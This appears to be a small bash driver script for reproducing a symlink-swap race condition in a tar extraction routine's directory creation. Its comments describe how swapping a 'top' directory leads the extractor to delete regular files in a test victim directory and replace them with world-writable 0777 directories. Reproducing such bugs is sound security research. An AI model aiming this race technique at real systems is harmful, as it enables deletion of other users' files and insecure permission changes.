#!/bin/bash
# Scenario C2: makeDir: lstat(DEST/top/dK) sees a file through the swapped "top" -> unlink it -> mkdir.
# /tmp/race-victim/files/d0..d2999 are regular files; they get deleted / replaced by 0777 dirs.
cd /tmp/race-repro; [ -f dirs.tar ] || python3 gen.py dirs dirs.tar 3000
VN=3000 ./run.sh dirs.tar top /tmp/race-victim/files ${1:-3} 0 "${@:2}"
